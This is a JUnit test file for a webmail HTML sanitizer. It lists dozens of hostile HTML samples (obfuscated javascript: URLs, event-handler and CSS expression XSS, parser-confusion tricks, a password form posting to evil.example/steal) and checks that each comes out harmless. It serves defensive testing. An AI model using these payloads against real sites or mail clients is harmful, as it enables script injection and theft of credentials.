package dev.posta.web.message;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The sanitizer against hostile HTML: each sample, sanitized, is parsed again with jsoup and its
 * elements, attributes, URLs and CSS are checked (not the string alone), and the text around the
 * attack ({@code KEEP}) must still be there, so that a sanitizer dropping everything fails too.
 * Each raw sample must itself break a rule of {@link #violations}, so a check that sees nothing
 * fails as well.
 */
class HtmlSanitizerTest {
  static Stream<String> hostile() {
    return Stream.of(
        // script in its spellings
        "KEEP<script>document.title='pwned'</script>",
        "KEEP<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "KEEP<script\n>alert(1)</script\n>",
        "KEEP<script/xss src=https://evil.example/x.js></script>",
        "KEEP<<script>alert(1);//<</script>",
        "KEEP<div><script type=\"module\">import 'https://evil.example/m.js'</script></div>",
        // event handlers
        "KEEP<img src=x onerror=alert(1)>",
        "KEEP<body onload=alert(1)>",
        "KEEP<div onmouseover=\"alert(1)\" ONCLICK='alert(2)'>x</div>",
        "KEEP<img/src=x/onerror=alert(1)>",
        "KEEP<details open ontoggle=alert(1)>",
        "KEEP<a href=\"https://ok.example/\" onfocus=alert(1) autofocus>link</a>",
        // javascript: and friends, in every attribute that takes a URL
        "KEEP<a href=\"javascript:alert(1)\">x</a>",
        "KEEP<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "KEEP<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "KEEP<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
        "KEEP<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "KEEP<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "KEEP<a href=\" \u0001javascript:alert(1)\">x</a>",
        "KEEP<a href=\"vbscript:msgbox(1)\">x</a>",
        "KEEP<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "KEEP<img src=\"javascript:alert(1)\">",
        "KEEP<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "KEEP<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "KEEP<form><button formaction=\"javascript:alert(1)\">go</button></form>",
        "KEEP<isindex action=\"javascript:alert(1)\" type=image>",
        "KEEP<a href=\"/mail/INBOX/1/part/2\">own origin</a>",
        // CSS
        "KEEP<div style=\"width: expression(alert(1))\">x</div>",
        "KEEP<div style=\"width: expr/**/ession(alert(1))\">x</div>",
        "KEEP<div style=\"width: \\65 xpression(alert(1))\">x</div>",
        "KEEP<div style=\"background:url(javascript:alert(1))\">x</div>",
        "KEEP<div style=\"background:url( 'jav\\61script:alert(1)' )\">x</div>",
        "KEEP<div style=\"behavior: url(x.htc)\">x</div>",
        "KEEP<div style=\"-moz-binding: url(https://evil.example/x.xml#xss)\">x</div>",
        "KEEP<div style=\"background-image: url(https://tracker.example/p.gif)\">x</div>",
        "KEEP<div style=\"background-image: image-set('https://tracker.example/p.gif' 1x)\">x</div>",
        "KEEP<style>@import 'https://evil.example/x.css';</style>",
        "KEEP<style>@im\\port url(https://evil.example/x.css);</style>",
        "KEEP<style>body{background:url(\"https://tracker.example/p.gif\")}</style>",
        "<html><head><style>div{width:expression(alert(1))}</style></head><body>KEEP</body></html>",
        "KEEP<link rel=stylesheet href=https://evil.example/x.css>",
        // svg, math, frames, plugins
        "KEEP<svg onload=alert(1)><script>alert(2)</script></svg>",
        "KEEP<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;/svg&gt;#x\"/></svg>",
        "KEEP<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "KEEP<iframe src=\"https://evil.example/\"></iframe>",
        "KEEP<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "KEEP<object data=\"https://evil.example/x.swf\"></object>",
        "KEEP<embed src=\"https://evil.example/x.swf\">",
        "KEEP<applet code=X></applet>",
        // meta, base, forms
        "KEEP<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "KEEP<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
        "KEEP<form action=\"https://evil.example/steal\" method=post><input name=password type=password><button>Sign in</button></form>",
        "KEEP<input type=image src=\"https://tracker.example/p.gif\">",
        "KEEP<textarea autofocus onfocus=alert(1)></textarea><select><option>a</option></select>",
        // comments and parser tricks
        "KEEP<!-- --!><script>alert(1)</script> -->",
        "KEEP<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        // remote images and trackers
        "KEEP<img src=\"https://tracker.example/open.gif?u=1\" width=1 height=1>",
        "KEEP<img src=\"HTTP://tracker.example/open.gif\">",
        "KEEP<img srcset=\"https://tracker.example/a.gif 1x\">",
        "KEEP<table background=\"https://tracker.example/bg.gif\"><tr><td>x</td></tr></table>",
        "KEEP<video poster=\"https://tracker.example/p.gif\"></video><audio src=\"https://tracker.example/a.mp3\"></audio>",
        "KEEP<a href=\"https://ok.example/\" ping=\"https://tracker.example/ping\">x</a>");
  }

  /**
   * Traps for filters that work on strings, harmless once parsed as a browser parses them (a
   * comment, a double CSS escape, a frameset in a body, a tag split around another, a title's
   * text): the sanitizer must not make them harmful by taking something out.
   */
  static Stream<String> parserTraps() {
    return Stream.of(
        "KEEP<scr<script>ipt>alert(1)</scr</script>ipt>",
        "KEEP<div style=\"width: \\5c 65xpression(alert(1))\">x</div>",
        "KEEP<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "KEEP<!--<script>alert(1)</script>-->",
        "KEEP<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "KEEP<title><img src=x onerror=alert(1)></title>",
        "KEEP<style>p{color:red}</style><style>x{}\\3c /style\\3e \\3c script\\3e alert(1)\\3c /script\\3e</style>");
  }

  @ParameterizedTest
  @MethodSource("parserTraps")
  void parserTrapsStayHarmless(String html) {
    HtmlSanitizer.SafeHtml safe = HtmlSanitizer.sanitize(html, false, cid -> null);
    assertThat(violations(safe.html(), false)).as(safe.html()).isEmpty();
    assertThat(safe.html()).doesNotContainIgnoringCase("<script").doesNotContainIgnoringCase("<img").doesNotContainIgnoringCase("</style><script")
        .doesNotContain("xpression");
    assertThat(Jsoup.parse(safe.html()).text()).contains("KEEP");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void hostileHtmlComesOutHarmless(String html) {
    assertThat(violations(html, false)).as("the raw sample itself breaks a rule").isNotEmpty();
    HtmlSanitizer.SafeHtml safe = HtmlSanitizer.sanitize(html, false, cid -> null);
    assertThat(violations(safe.html(), false)).as(safe.html()).isEmpty();
    assertThat(Jsoup.parse(safe.html()).text()).contains("KEEP");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void hostileHtmlComesOutHarmlessWithRemoteImagesShown(String html) {
    HtmlSanitizer.SafeHtml safe = HtmlSanitizer.sanitize(html, true, cid -> null);
    assertThat(violations(safe.html(), true)).as(safe.html()).isEmpty();
  }

  /** What would run, submit, frame or fetch unasked in this HTML, parsed as a browser parses it. */
  static List<String> violations(String html, boolean remoteImagesAllowed) {
    List<String> found = new ArrayList<>();
    Document doc = Jsoup.parse(html);
    for (Element e : doc.getAllElements()) {
      String tag = e.normalName();
      if (List.of("script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button", "textarea", "select",
          "meta", "base", "link", "svg", "math", "isindex", "video", "audio", "noscript", "use").contains(tag)) {
        found.add("element " + tag);
      }
      for (Attribute a : e.attributes()) {
        String key = a.getKey().toLowerCase(Locale.ROOT);
        String value = HtmlSanitizer.squeeze(a.getValue()).toLowerCase(Locale.ROOT);
        if (key.startsWith("on")) found.add("handler " + key);
        if (List.of("formaction", "xlink:href", "srcset", "background", "poster", "ping", "action", "srcdoc", "data", "code").contains(key)) {
          found.add("attribute " + key);
        }
        if (value.contains("javascript:") || value.contains("vbscript:")) found.add("script URL in " + key);
        if (key.equals("href") && !(value.startsWith("http://") || value.startsWith("https://") || value.startsWith("mailto:"))) {
          found.add("href " + value);
        }
        if (key.equals("src") && !value.startsWith("/part/") && !value.matches("data:image/(png|gif|jpeg|webp)[;,].*")
            && !(remoteImagesAllowed && (value.startsWith("https://") || value.startsWith("http://")))) {
          found.add("src " + value);
        }
        if (key.equals("style")) found.addAll(cssViolations(a.getValue(), remoteImagesAllowed));
      }
      if (tag.equals("style")) {
        found.addAll(cssViolations(e.data(), remoteImagesAllowed));
        if (e.data().toLowerCase(Locale.ROOT).contains("</style")) found.add("style element closed from inside");
      }
    }
    return found;
  }

  private static List<String> cssViolations(String css, boolean remoteImagesAllowed) {
    List<String> found = new ArrayList<>();
    String plain = CssFilter.unescape(css.replaceAll("(?s)/\\*.*?\\*/", "")).toLowerCase(Locale.ROOT).replaceAll("\\s", "");
    for (String word : List.of("expression(", "javascript:", "vbscript:", "behavior", "-moz-binding", "@import", "image-set(")) {
      if (plain.contains(word)) found.add("css " + word);
    }
    if (!remoteImagesAllowed && (plain.contains("url(http") || plain.contains("url(\"http") || plain.contains("url('http"))) found.add("css remote url");
    return found;
  }

  @Test
  void keepsTheLookOfAnOrdinaryNewsletter() {
    String html = "<html><head><style>.big{font-size:20px}</style></head><body bgcolor=white>"
        + "<table width=\"600\" cellpadding=\"4\"><tr><td class=\"big\" style=\"color:#333;font-family:Arial\">Hello <b>Ann</b></td></tr></table>"
        + "<p><a href=\"https://shop.example/sale?x=1&amp;y=2\" title=\"Sale\">Sale</a> <font color=\"red\">now</font></p></body></html>";
    HtmlSanitizer.SafeHtml safe = HtmlSanitizer.sanitize(html, false, cid -> null);
    assertThat(safe.html()).isEqualTo("<style>.big{font-size:20px}</style>"
        + "<table width=\"600\" cellpadding=\"4\"><tbody><tr><td class=\"big\" style=\"color:#333;font-family:Arial\">Hello <b>Ann</b></td></tr></tbody></table>"
        + "<p><a href=\"https://shop.example/sale?x=1&amp;y=2\" title=\"Sale\" target=\"_blank\" rel=\"noopener noreferrer\">Sale</a> <font color=\"red\">now</font></p>");
    assertThat(safe.blockedImages()).isZero();
  }

  @Test
  void remoteImagesAreBlockedAndCountedUnlessAskedFor() {
    String html = "<img src=\"https://t.example/a.gif\" alt=\"logo\"><img src=\"http://t.example/b.gif\">"
        + "<div style=\"background:url(https://t.example/bg.png) no-repeat\">x</div><style>p{background:url('https://t.example/p.png')}</style>";
    HtmlSanitizer.SafeHtml blocked = HtmlSanitizer.sanitize(html, false, cid -> null);
    assertThat(blocked.blockedImages()).isEqualTo(4);
    assertThat(blocked.html()).isEqualTo("<img alt=\"logo\"><img><div style=\"background:none no-repeat\">x</div><style>p{background:none}</style>");
    HtmlSanitizer.SafeHtml shown = HtmlSanitizer.sanitize(html, true, cid -> null);
    assertThat(shown.blockedImages()).isZero();
    assertThat(shown.html()).isEqualTo("<img src=\"https://t.example/a.gif\" alt=\"logo\"><img src=\"http://t.example/b.gif\">"
        + "<div style=\"background:url(&quot;https://t.example/bg.png&quot;) no-repeat\">x</div>"
        + "<style>p{background:url(\"https://t.example/p.png\")}</style>");
  }

  @Test
  void cidImagesBecomeTheMessagesOwnPartsAndOtherCidsAreDropped() {
    String html = "<img src=\"cid:logo@example.org\"><img src=\"CID:sig%40example.org\"><img src=\"cid:nope@example.org\">"
        + "<p style=\"background:url(cid:logo@example.org)\">x</p>";
    HtmlSanitizer.SafeHtml safe = HtmlSanitizer.sanitize(html, false, cid -> switch (cid) {
      case "logo@example.org" -> "/part/2";
      case "sig@example.org" -> "/part/3";
      default -> null;
    });
    assertThat(safe.html()).isEqualTo("<img src=\"/part/2\"><img src=\"/part/3\"><img>"
        + "<p style=\"background:url(&quot;/part/2&quot;)\">x</p>");
    assertThat(safe.blockedImages()).isZero();
  }

  @Test
  void inlineDataImagesStayOtherDataUrlsGo() {
    HtmlSanitizer.SafeHtml safe = HtmlSanitizer.sanitize(
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img src=\"data:text/html,hi\"><img src=\"data:image/svg+xml,<svg/>\">", false, cid -> null);
    assertThat(safe.html()).isEqualTo("<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img><img>");
  }

  @Test
  void linksOpenInANewBrowsingContextAndOnlyForWebAndMail() {
    HtmlSanitizer.SafeHtml safe = HtmlSanitizer.sanitize("<a href=\" https://a.example/\n\">a</a><a href=\"mailto:ann@example.org\">m</a>"
        + "<a href=\"ftp://f.example/\">f</a><a href=\"#top\">t</a><a href=\"ht\u200btp://a.example/\">z</a><a name=\"top\">n</a>", false, cid -> null);
    assertThat(safe.html()).isEqualTo("<a href=\"https://a.example/\" target=\"_blank\" rel=\"noopener noreferrer\">a</a>"
        + "<a href=\"mailto:ann@example.org\" target=\"_blank\" rel=\"noopener noreferrer\">m</a>"
        + "<a>f</a><a>t</a><a>z</a><a name=\"top\">n</a>");
  }

  @Test
  void cssEscapesAreDecodedSoWhatComesOutIsWhatWasChecked() {
    assertThat(CssFilter.filter("color: r\\65 d; width: \\65 xpression(1); margin:0", url -> null)).isEqualTo("color: red;; margin:0");
    assertThat(CssFilter.filter("a > b { color: blue } c{background:url(x.png)}", url -> null)).isEqualTo("a > b { color: blue } c{background:none}");
    assertThat(CssFilter.filter("x{content:'\\3c /style>'}", url -> null)).isEqualTo("x{content:'\\3c /style>'}");
  }
}
